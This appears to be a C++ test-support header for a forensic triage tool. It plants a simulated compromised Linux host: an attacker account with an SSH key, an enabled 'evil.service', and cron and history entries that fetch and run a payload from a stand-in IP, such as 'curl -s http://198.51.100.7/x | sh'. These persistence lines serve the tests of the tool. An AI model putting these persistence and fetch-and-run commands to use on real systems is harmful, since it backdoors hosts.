// A scratch ROOT with a planted account for the triage bundle tests (passwd, authorized_keys, a
// cron.d entry, a crontab, bash history, a sparse lastlog), and the system's own tools reading a
// bundle back: `zstd -t`, `tar --zstd -t` and `tar --zstd -x`, then MANIFEST.json and the
// tables parsed as JSON.
#pragma once

#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include <utmp.h>

#include <algorithm>
#include <cstring>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "agent/os/triage.h"
#include "common/json.h"
#include "gtest/gtest.h"
#include "tests/support/process.h"

namespace warden::testing {

namespace fs = std::filesystem;

inline constexpr std::time_t kPlantedMtime = 1680674828;  // 2023-04-05T06:07:08Z
inline const std::string kKeys =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedByTheAttacker mallory@x\n";
inline const std::string kCronEvil = "* * * * * root curl -s http://198.51.100.7/x | sh\n";
inline const std::string kCrontab = "@reboot /tmp/.x/payload >/dev/null 2>&1\n";
inline const std::string kHistory =
    "id\nwget http://198.51.100.7/x -O /tmp/.x/payload\nrm \xff\xfe\n";

inline std::string readAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

inline void plant(const std::string& path, const std::string& content, mode_t mode = 0644,
                  uid_t uid = 0, gid_t gid = 0) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary | std::ios::trunc) << content;
  ASSERT_EQ(::chmod(path.c_str(), mode), 0) << path;
  ASSERT_EQ(::chown(path.c_str(), uid, gid), 0) << path;
  const timespec times[2] = {{kPlantedMtime, 0}, {kPlantedMtime, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, path.c_str(), times, AT_SYMLINK_NOFOLLOW), 0) << path;
}

inline std::string sha256sum(const std::string& path) {
  auto r = testing::run({"sha256sum", path});
  EXPECT_TRUE(r.ok() && r->exit_code == 0) << path;
  return r.ok() ? r->out.substr(0, 64) : "";
}

inline std::string randomText(std::size_t size, unsigned seed) {
  std::mt19937 rng(seed);
  std::string s(size, ' ');
  for (char& c : s) c = static_cast<char>('a' + rng() % 26);
  return s;
}

// A small host: root and mallory in passwd, mallory's keys, history and crontab, a cron.d
// entry, a symlink and a FIFO in cron.d, a unit enabled by a *.wants symlink, and lastlog
// with one login of mallory (uid 1002) as a sparse file.
inline void plantHost(const std::string& root) {
  plant(root + "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "mallory:x:1002:1002::/home/mallory:/bin/bash\n"
        "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n");
  plant(root + "/home/mallory/.ssh/authorized_keys", kKeys, 0600, 1002, 1002);
  ASSERT_EQ(::chmod((root + "/home/mallory/.ssh").c_str(), 0700), 0);
  ASSERT_EQ(::chown((root + "/home/mallory").c_str(), 1002, 1002), 0);
  plant(root + "/home/mallory/.bash_history", kHistory, 0600, 1002, 1002);
  plant(root + "/etc/cron.d/evil", kCronEvil);
  plant(root + "/var/spool/cron/crontabs/mallory", kCrontab, 0600, 1002, 1002);
  ASSERT_EQ(::symlink("/etc/passwd", (root + "/etc/cron.d/linked").c_str()), 0);
  ASSERT_EQ(::mkfifo((root + "/etc/cron.d/pipe").c_str(), 0600), 0);
  plant(root + "/etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/.x/payload\n");
  fs::create_directories(root + "/etc/systemd/system/multi-user.target.wants");
  ASSERT_EQ(::symlink("/etc/systemd/system/evil.service",
                      (root + "/etc/systemd/system/multi-user.target.wants/evil.service").c_str()),
            0);
  struct lastlog ll {};
  ll.ll_time = static_cast<std::int32_t>(kPlantedMtime);
  std::strncpy(ll.ll_line, "pts/1", sizeof(ll.ll_line) - 1);
  std::strncpy(ll.ll_host, "203.0.113.9", sizeof(ll.ll_host) - 1);
  fs::create_directories(root + "/var/log");
  const int fd = ::open((root + "/var/log/lastlog").c_str(), O_WRONLY | O_CREAT, 0664);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(::pwrite(fd, &ll, sizeof(ll), 1002 * sizeof(ll)), static_cast<ssize_t>(sizeof(ll)));
  ::close(fd);
}

// A TCP socket of this process listening on loopback (a port the kernel picks), for the live
// socket table to show with this process as its holder; closed with the object.
class LoopbackListener {
 public:
  LoopbackListener() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof(addr);
    if (fd_ < 0 || ::bind(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 ||
        ::listen(fd_, 1) != 0 ||
        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
      ADD_FAILURE() << "cannot listen on loopback: " << std::strerror(errno);
      return;
    }
    local_ = "127.0.0.1:" + std::to_string(ntohs(addr.sin_port));
  }
  ~LoopbackListener() { close(); }
  LoopbackListener(const LoopbackListener&) = delete;
  LoopbackListener& operator=(const LoopbackListener&) = delete;
  void close() {
    if (fd_ >= 0) ::close(fd_);
    fd_ = -1;
  }
  const std::string& local() const { return local_; }  // "127.0.0.1:PORT"

 private:
  int fd_ = -1;
  std::string local_;
};

inline TriageOptions scratchOptions(const std::string& root) {
  TriageOptions o;
  o.root = root;
  o.include_journal = false;
  o.command_timeout = absl::Seconds(20);
  return o;
}

// The bundle's member names in archive order, from `tar --zstd -tf`.
inline std::vector<std::string> listBundle(const std::string& bundle) {
  auto r = testing::run({"tar", "--zstd", "-tf", bundle}, absl::Seconds(60));
  EXPECT_TRUE(r.ok()) << r.status();
  if (!r.ok()) return {};
  EXPECT_EQ(r->exit_code, 0) << r->err;
  EXPECT_EQ(r->err, "");  // no warnings either (e.g. "A lone zero block")
  return absl::StrSplit(r->out, '\n', absl::SkipEmpty());
}

// A JSON file of an extracted bundle, parsed; one that is missing or not JSON fails the test.
inline Json loadJson(const std::string& path) {
  absl::StatusOr<Json> j = parseJson(readAll(path), path);
  EXPECT_TRUE(j.ok()) << j.status();
  return j.ok() ? *std::move(j) : Json();
}

// Checks the compressed stream, extracts the bundle into `dir` and returns the manifest. tar
// must not complain, except with the warnings in `expected` (substrings of its stderr lines).
inline Json extractBundle(const std::string& bundle, const std::string& dir,
                          const std::vector<std::string>& expected = {}) {
  auto t = testing::run({"zstd", "-q", "-t", bundle}, absl::Seconds(60));
  EXPECT_TRUE(t.ok() && t->exit_code == 0) << (t.ok() ? t->err : t.status().ToString());
  fs::create_directories(dir);
  auto x = testing::run({"tar", "--zstd", "--numeric-owner", "-xf", bundle, "-C", dir},
                        absl::Seconds(60));
  EXPECT_TRUE(x.ok()) << x.status();
  if (!x.ok()) return {};
  EXPECT_EQ(x->exit_code, 0) << x->err;
  for (absl::string_view line : absl::StrSplit(x->err, '\n', absl::SkipEmpty())) {
    EXPECT_TRUE(std::any_of(expected.begin(), expected.end(), [&](const std::string& e) {
      return absl::StrContains(line, e);
    })) << line;
  }
  return loadJson(dir + "/MANIFEST.json");
}

inline Json memberNamed(const Json& manifest, const std::string& name) {
  for (const Json& m : manifest.at("members")) {
    if (m.at("name").get<std::string>() == name) return m;
  }
  ADD_FAILURE() << name << " is not in the manifest";
  return Json();
}

inline bool hasLimit(const TriageResult& r, const std::string& text) {
  for (const std::string& l : r.limits_hit) {
    if (absl::StrContains(l, text)) return true;
  }
  return false;
}

inline std::string limitsText(const TriageResult& r) { return absl::StrJoin(r.limits_hit, "\n"); }

}  // namespace warden::testing
